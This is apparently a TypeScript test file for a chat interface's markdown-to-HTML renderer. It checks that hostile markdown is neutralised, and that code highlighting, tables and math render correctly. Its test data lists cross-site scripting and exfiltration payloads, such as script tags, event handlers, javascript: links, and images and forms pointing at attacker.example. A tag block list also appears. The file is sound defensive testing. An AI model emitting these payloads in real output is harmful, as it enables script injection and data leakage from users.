import { beforeAll, describe, expect, test } from "bun:test";
import { markdownToHtml } from "./markdown-html.ts";
import { loadMathRenderer } from "./math-extension.ts";

const origin = "https://chat.example";
const render = (markdown: string) => markdownToHtml(markdown, origin);

/** Every tag the output opens: its name and attributes (the renderer always double-quotes values). */
function openingTags(html: string): Array<{ name: string; attributes: Map<string, string> }> {
  return [...html.matchAll(/<([a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*>/gi)].map((match) => ({
    name: (match[1] as string).toLowerCase(),
    attributes: new Map(
      [...(match[2] ?? "").matchAll(/([a-z-]+)(?:="([^"]*)")?/gi)].map((attribute) => [
        (attribute[1] as string).toLowerCase(),
        attribute[2] ?? "",
      ]),
    ),
  }));
}

/**
 * Hostile markdown a model could be made to answer with. This first layer must already turn
 * each into inert text or a safe element; `sanitizeHtml` (tested in the browser) is the second.
 */
const hostile: Array<[string, string]> = [
  ["a script element", "Hi <script>window.pwned = 1</script> there"],
  ["a script block", "<script>\nwindow.pwned = 1\n</script>"],
  ["an image with an error handler", '<img src=x onerror="window.pwned = 1">'],
  ["an event handler on any tag", '<div onmouseover="window.pwned=1">hover</div>'],
  ["a javascript: link", "[click me](javascript:window.pwned=1)"],
  ["an encoded javascript: link", "[click me](javascript&#58;window.pwned=1)"],
  ["a javascript: link with a tab", "[click me](java\tscript:window.pwned=1)"],
  ["a javascript: autolink", "<javascript:window.pwned=1>"],
  ["a data: link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["a remote image", "![leak](https://attacker.example/leak.png?secret=1)"],
  ["a protocol-relative image", "![leak](//attacker.example/leak.png)"],
  ["a javascript: image", "![x](javascript:alert(1))"],
  ["an iframe", '<iframe src="https://attacker.example"></iframe>'],
  ["an SVG with onload", '<svg onload="window.pwned=1"><circle r="5"/></svg>'],
  ["an SVG script", "<svg><script>window.pwned=1</script></svg>"],
  ["SVG in an image's data URL", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
  ["a style element", "<style>body{background:url(https://attacker.example/x)}</style>"],
  ["a form", '<form action="https://attacker.example"><input name=a></form>'],
  ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://attacker.example">'],
  ["a link title breaking out", '[x](https://example.com "a\\" onmouseover=\\"window.pwned=1")'],
  ["a code fence language breaking out", '```js" onclick="window.pwned=1\nx\n```'],
  ["HTML inside a code span", "`<script>window.pwned=1</script>`"],
  ["an object", '<object data="https://attacker.example/x.swf"></object>'],
];

describe("markdownToHtml turns hostile markdown inert", () => {
  test.each(hostile)("%s", (_name, markdown) => {
    const html = render(markdown);
    const tags = openingTags(html);
    // Every "<" that is not one of these tags was escaped.
    expect(html.match(/</g)?.length ?? 0).toBe(tags.length + (html.match(/<\//g)?.length ?? 0));
    for (const { name, attributes } of tags) {
      expect([
        "script",
        "iframe",
        "svg",
        "style",
        "form",
        "input",
        "object",
        "embed",
        "meta",
        "link",
        "base",
        "math",
      ]).not.toContain(name);
      for (const [attribute, value] of attributes) {
        expect(attribute).not.toMatch(/^on/);
        if (attribute === "href") expect(value).toMatch(/^(https?:|mailto:)/);
        if (attribute === "src") expect(value).toStartWith("https://chat.example/");
      }
    }
  });

  test("raw HTML is shown as text, not dropped", () => {
    expect(render("Use <b>bold</b> here")).toBe("<p>Use &lt;b&gt;bold&lt;/b&gt; here</p>\n");
    expect(render('<img src=x onerror="window.pwned = 1">')).toContain("&lt;img src=x onerror=");
  });

  test("links open in a new tab without opener or referrer; unsafe ones lose the link, keep the text", () => {
    expect(render("[docs](https://example.com/docs)")).toBe(
      '<p><a href="https://example.com/docs" target="_blank" rel="noopener noreferrer">docs</a></p>\n',
    );
    expect(render("[click me](javascript:alert(1))")).toBe(
      '<p><span class="unsafe-link">click me</span></p>\n',
    );
  });

  test("a remote image becomes a link to it, never an <img>", () => {
    expect(render("![a chart](https://attacker.example/leak.png)")).toBe(
      '<p><a class="remote-image" href="https://attacker.example/leak.png" title="Remote image, not loaded" target="_blank" rel="noopener noreferrer">Image: a chart</a></p>\n',
    );
    expect(render("![logo](/assets/logo.png)")).toBe(
      '<p><img src="https://chat.example/assets/logo.png" alt="logo" loading="lazy"></p>\n',
    );
  });
});

describe("markdownToHtml keeps ordinary markdown", () => {
  test("paragraphs, emphasis, lists, quotes, tables and inline code", () => {
    const html = render(
      "# Title\n\nSome **bold**, *italic*, ~~gone~~ and `code`.\n\n- one\n- two\n\n1. first\n2. second\n\n> quoted\n\n| a | b |\n| - | - |\n| 1 | 2 |\n",
    );
    for (const part of [
      "<h1>Title</h1>",
      "<strong>bold</strong>",
      "<em>italic</em>",
      "<del>gone</del>",
      "<code>code</code>",
      "<li>one</li>",
      "<ol>",
      "<blockquote>",
      "<table>",
      "<td>2</td>",
    ]) {
      expect(html).toContain(part);
    }
  });

  test("a fenced code block keeps its text, is highlighted, and shows its language and a copy button", () => {
    const html = render('Try:\n\n```ts\nconst greeting: string = "<hi>";\n```\n');
    expect(html).toContain('<span class="code-language">ts</span>');
    expect(html).toContain('<button type="button" class="code-copy" data-code-copy="">Copy</button>');
    expect(html).toContain('<code class="hljs language-ts">');
    expect(html).toContain('<span class="hljs-keyword">const</span>');
    const text = html
      .slice(html.indexOf("<pre>"))
      .replace(/<[^>]+>/g, "")
      .replaceAll("&quot;", '"')
      .replaceAll("&lt;", "<")
      .replaceAll("&gt;", ">")
      .replaceAll("&amp;", "&");
    expect(text.trim()).toBe('const greeting: string = "<hi>";');
  });

  test.each([
    ["python", "def f():\n    return 1", "hljs-keyword"],
    ["bash", "echo $HOME", "hljs-built_in"],
    ["json", '{"a": 1}', "hljs-attr"],
    ["html", '<p class="x">hi</p>', "hljs-tag"],
    ["css", "a { color: red; }", "hljs-selector-tag"],
    ["sql", "SELECT * FROM t", "hljs-keyword"],
    ["go", "func main() {}", "hljs-keyword"],
    ["rust", "fn main() {}", "hljs-keyword"],
    ["java", "public class A {}", "hljs-keyword"],
    ["cpp", "int main() { return 0; }", "hljs-type"],
    ["yaml", "a: 1", "hljs-attr"],
    ["diff", "+added\n-removed", "hljs-addition"],
    ["markdown", "# Heading", "hljs-section"],
    ["js", "let a = 1", "hljs-keyword"],
  ])("%s is highlighted", (language, code, tokenClass) => {
    const html = render(`\`\`\`${language}\n${code}\n\`\`\``);
    expect(html).toContain(`<span class="code-language">${language}</span>`);
    expect(html).toContain(tokenClass);
  });

  test("an unknown or missing language is plain, escaped code labelled as written", () => {
    expect(render("```brainfuck\n<+>\n```")).toContain(
      '<span class="code-language">brainfuck</span><button type="button" class="code-copy" data-code-copy="">Copy</button></div><pre><code class="hljs">&lt;+&gt;</code></pre>',
    );
    expect(render("```\nplain\n```")).toContain('<span class="code-language">text</span>');
  });

  test("an unclosed fence (an answer still streaming) is already a code block", () => {
    const html = render("Here:\n\n```python\nprint(1)\nfor");
    expect(html).toContain('<code class="hljs language-python">');
    expect(html).toContain("for");
  });
});

describe("markdownToHtml: math", () => {
  beforeAll(() => loadMathRenderer());

  const formulas = (html: string) => [...html.matchAll(/<math\b[^>]*>/g)].map((match) => match[0]);

  test.each([
    ["$…$ inline", "Euler: $e^{i\\pi}+1=0$.", false],
    ["\\(…\\) inline", "so \\(x_i^2\\) grows", false],
    ["$$…$$ on its own lines", "$$\n\\int_0^1 x\\,dx = \\frac{1}{2}\n$$", true],
    ["\\[…\\] on its own line", "\\[ a_1 + b_2 \\]", true],
  ])("%s becomes MathML", (_name, markdown, display) => {
    const html = render(markdown);
    expect(formulas(html)).toHaveLength(1);
    expect(html.includes('display="block"')).toBe(display);
    expect(html).not.toContain("$");
  });

  test("backslashes and underscores reach the formula as written, not as markdown escapes or emphasis", () => {
    const matrix = render("$$\\begin{pmatrix}1&2\\\\3&4\\end{pmatrix}$$");
    expect(matrix.match(/<mtr>/g)).toHaveLength(2);
    expect(matrix.match(/<mtd\b/g)).toHaveLength(4);
    const subscripts = render("$a_1 + b_2 + c_3$");
    expect(subscripts).not.toContain("<em>");
    expect(subscripts.match(/<msub>/g)).toHaveLength(3);
    expect(render("$\\{x\\}$")).toContain("<mo");
  });

  test("money is not math: a $ before a digit or a space, or after a space, stays text", () => {
    for (const text of ["It costs $5 and $10.", "from $5-$10", "a $ b $ c", "price: $ 3"]) {
      expect(formulas(render(text))).toEqual([]);
    }
  });

  test("code spans and code blocks keep their dollars and backslashes", () => {
    const html = render("`$x$` and\n\n```latex\n$$\\frac{a}{b}$$\n```");
    expect(formulas(html)).toEqual([]);
    expect(html).toContain("<code>$x$</code>");
    expect(html).toContain("\\frac{a}{b}");
  });

  test("a formula cannot link, load or run anything: \\href and \\includegraphics are not trusted", () => {
    const html = render("$\\href{javascript:alert(1)}{x} \\includegraphics{https://attacker.example/a.png}$");
    expect(html).not.toMatch(/\b(href|src)=/);
    expect(html).not.toContain("<img");
    expect(html).not.toContain("<a ");
  });

  test("formulas carry no inline style, which the CSP would refuse", () => {
    const html = render(
      "$\\color{red}{x}$ and $$\\begin{pmatrix}1&2\\\\3&4\\end{pmatrix}$$ and $\\notacommand$",
    );
    expect(formulas(html).length).toBeGreaterThan(0);
    expect(html).not.toContain("style=");
  });

  test("an expression Temml cannot read shows its source instead of failing the answer", () => {
    const html = render("before $\\notacommand{x}$ after");
    expect(html).toContain("\\notacommand");
    expect(html).toContain("before");
    expect(html).toContain("after");
  });
});
